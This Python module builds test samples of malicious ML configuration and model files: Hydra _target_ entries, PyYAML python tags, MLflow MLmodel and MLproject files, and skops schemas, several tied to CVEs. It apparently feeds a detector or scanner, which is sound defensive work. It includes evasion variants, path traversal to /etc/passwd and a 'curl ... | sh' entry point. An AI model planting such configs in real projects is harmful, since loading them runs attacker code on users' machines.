"""Configurations that name what to call: Hydra targets, YAML tags, MLflow, skops."""

from __future__ import annotations

import json
from collections.abc import Iterator

from corpus.opcodes import Name, build, instance, payload, pickle_of, system
from corpus.pickle_disguise import gz, tar_of
from corpus.repositories import CODE, WEIGHTS, text
from corpus.sample import Family, Sample
from corpus.torch_files import torch_of
from samples import safetensors_of, tensor, zip_of


def _targets() -> Iterator[Sample]:
    made = Family("config-yaml", "Hydra and JSON targets", "CVE-2025-23304")
    targets = ("os.system", "builtins.exec", "subprocess.Popen", "builtins.eval", "runpy.run_path", "pickle.loads",
               "importlib.import_module", "torch.load", "posix.system", "numpy.load", "webbrowser.open")  # fmt: skip
    for number, target in enumerate(targets):
        title = target.replace(".", "-").replace("_", "-")
        if number % 2:
            content = (
                f"model:\n  encoder:\n    _target_: {target}\n    _args_: ['true']\n".encode()
            )
            yield made(
                f"target-yaml-{title}",
                ("config.yaml", "model_config.yml")[number % 4 // 2],
                content,
            )
        else:
            config = {"model": {"layers": [{"_target_": target, "x": "true"}]}}
            yield made(f"target-json-{title}", "config.json", text(config))
    method = b"a:\n  _target_: hydra.utils.get_method\n  path: os.system\n"
    yield made("target-get-method", "config.yaml", method)
    quoted = b'trainer:\n  "_targ\\x65t_": "os.system"\n  command: "true"\n'
    yield made("target-escaped", "config.yaml", quoted)
    yield made("target-flow", "config.yaml", b"a: {_target_: os.system, command: 'true'}\n")
    yield made("target-folded", "config.yaml", b"a:\n  _target_: >-\n    os.system\n")
    yield made("target-anchor", "config.yaml", b"x: &n os.system\nmodel:\n  _target_: *n\n")
    yield made(
        "target-merge", "config.yaml", b"base: &b\n  _target_: os.system\nmodel:\n  <<: *b\n"
    )
    yield made(
        "class-path",
        "config.yaml",
        b"model:\n  class_path: subprocess.Popen\n  init_args:\n    args: ['true']\n",
    )
    inner = b"model:\n  tokenizer:\n    _target_: os.system\n"
    yield made(
        "nemo",
        "model.nemo",
        tar_of(
            {
                "model_config.yaml": inner,
                "model_weights.ckpt": zip_of(torch_of(payload()[:2] + b"N.")),
            }
        ),
    )
    yield made("nemo-gz", "model.nemo", gz(tar_of({"./model_config.yaml": inner})))
    yield made(
        "nemo-duplicate",
        "model.nemo",
        tar_of({"model_config.yaml": b"a: 1\n"})[:1024] + tar_of({"model_config.yaml": inner}),
    )
    yield made(
        "nemo-weights",
        "model.nemo",
        tar_of(
            {"model_config.yaml": b"a: 1\n", "model_weights.ckpt": zip_of(torch_of(payload()))}
        ),
    )
    uni = {
        "_target_": "uni2ts.model.moirai.MoiraiModule",
        "distr_output": {"_target_": "builtins.eval", "source": "1"},
    }
    yield made("uni2ts", "repository", {"config.json": text(uni), "model.safetensors": WEIGHTS})
    flex = {"encoder_args": {"_target_": "os.system", "command": "true"}}
    yield made(
        "flextok-metadata",
        "model.safetensors",
        safetensors_of(
            {"__metadata__": {"flextok": json.dumps(flex)}, "w": tensor(0, 8)}, bytes(8)
        ),
    )


def _yaml() -> Iterator[Sample]:
    made = Family("config-yaml", "YAML tags")
    tags = {
        "apply": "!!python/object/apply:os.system ['true']", "new": "!!python/object/new:subprocess.Popen [['true']]",
        "name": "a: !!python/name:os.system", "module": "a: !!python/module:os", "object": "!!python/object:subprocess.Popen {}",
        "verbatim": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']",
        "directive": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']",
        "percent": "a: !!python/object/apply:os%2Esystem ['true']", "second-document": "a: 1\n---\nb: !!python/object/apply:eval ['1']",
        "key": "? !!python/object/apply:os.system ['true']\n: 1", "exec": "a: !!python/object/apply:exec ['pass']",
        "ruby": "a: !ruby/object:Gem::Installer\n  i: x", "java": "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    }  # fmt: skip
    for number, (title, content) in enumerate(tags.items()):
        yield made(
            f"tag-{title}",
            ("config.yaml", "params.yml", "hparams.yaml")[number % 3],
            content.encode() + b"\n",
        )
    laughs = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join([f'*{chr(97 + i)}'] * 9)}]\n"
        for i in range(10)
    )
    yield made(
        "laughs",
        "config.yaml",
        laughs.encode() + b"z: !!python/object/apply:os.system ['true']\n",
    )
    yield made(
        "in-repository",
        "repository",
        {"config.yaml": tags["apply"].encode(), "model.safetensors": WEIGHTS},
    )


def _mlflow() -> Iterator[Sample]:
    made = Family("mlflow", "MLflow")
    head = "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: {}\n    python_version: 3.11.0\n"
    clean = (
        head.format("mlflow.sklearn")
        + "    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n"
    )
    models = {
        "loader-os": {"MLmodel": head.format("os").encode()},
        "loader-code": {"MLmodel": head.format("loader").encode() + b"    code: code\n", "code/loader.py": CODE["system"].encode()},
        "loader-unknown": {"MLmodel": head.format("runpy").encode() + b"    data: x\n"},
        "model-pickle": {"MLmodel": clean.encode(), "model.pkl": payload(4)},
        "python-model": {"MLmodel": head.format("mlflow.pyfunc.model").encode() + b"    python_model: python_model.pkl\n",
            "python_model.pkl": pickle_of(build(instance(Name("__main__", "M")), {"x": system()}))},
        "model-up": {"MLmodel": clean.replace("model.pkl", "../../other/model.pkl").encode()},
        "absolute": {"MLmodel": clean.replace("model.pkl", "/etc/passwd").encode()},
        "python-tag": {"MLmodel": b"!!python/object/apply:os.system ['true']\n"},
        "code-path": {"MLmodel": clean.encode() + b"code: code\n", "code/x.py": CODE["popen"].encode(), "model.pkl": b"\x80\x02N."},
        "project-entry": {"MLproject": b'name: p\nentry_points:\n  main:\n    command: "curl http://127.0.0.1:9/ | sh"\n'},
        "requirements": {"MLmodel": clean.encode(), "model.pkl": b"\x80\x02N.", "requirements.txt": b"--index-url http://127.0.0.1:9/\nmlflow\n"},
    }  # fmt: skip
    for title, files in models.items():
        yield made(f"mlflow-{title}", "model", files)


def _skops() -> Iterator[Sample]:
    made = Family("skops", "skops")

    def schema(**node: object) -> bytes:
        return zip_of(
            {"schema.json": text({"protocol": 2, "_skops_version": "0.16.0", **node})}
        )

    state = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {},
        "key_types": {},
        "__id__": 3,
    }
    nodes = {
        "method-node": ({"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
            "content": {"obj": state, "func": "__init__"}}, "CVE-2025-54412"),
        "operator-func": ({"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
            "attrs": state}, "CVE-2025-54412"),
        "operator-call": ({"__class__": "call", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": state}, "CVE-2025-54412"),
        "method-class-lies": ({"__class__": "builtins.dict", "__module__": "os", "__loader__": "MethodNode",
            "content": {"obj": {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "content": None}, "func": "x"}}, "CVE-2025-54413"),
        "object": ({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": state}, ""),
        "function": ({"__class__": "function", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}, ""),
        "type": ({"__class__": "system", "__module__": "os", "__loader__": "TypeNode"}, ""),
        "partial": ({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": {
            "func": {"__class__": "system", "__module__": "os", "__loader__": "TypeNode"}, "args": None, "kwds": None, "namespace": None}}, ""),
        "reduce": ({"__class__": "system", "__module__": "os", "__loader__": "ReduceNode", "content": state, "reduce": state}, ""),
        "nested": ({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [
            {"__class__": "exec", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "exec"}}]}, ""),
    }  # fmt: skip
    for title, (node, source) in nodes.items():
        yield made(f"skops-{title}", "model.skops", schema(**node), source=source)
    joblib = zip_of({"model.pkl": payload(), "README.md": b"model card\n"})
    yield made("skops-card-joblib", "model.skops", joblib, source="CVE-2025-54886")
    yield made(
        "skops-repository",
        "repository",
        {"README.md": b"---\nlibrary_name: sklearn\n---\n", "model.skops": payload(4)},
        source="CVE-2025-54886",
    )
    array = zip_of(
        {
            "schema.json": text(
                {
                    **state,
                    "content": {
                        "a": {
                            "__class__": "ndarray",
                            "__module__": "numpy",
                            "__loader__": "NdArrayNode",
                            "type": "numpy",
                            "file": "../x.npy",
                        }
                    },
                }
            ),
            "../x.npy": b"x",
        }
    )
    yield made("skops-slip", "model.skops", array)
    pickled = zip_of({"schema.json": text(state), "1.npy": payload()})
    yield made("skops-pickle-array", "model.skops", pickled)
    yield made(
        "skops-call-json",
        "model.skops",
        schema(
            __class__="Template", __module__="jinja2", __loader__="ObjectNode", content=None
        ),
    )


def samples() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _targets()
    yield from _yaml()
    yield from _mlflow()
    yield from _skops()
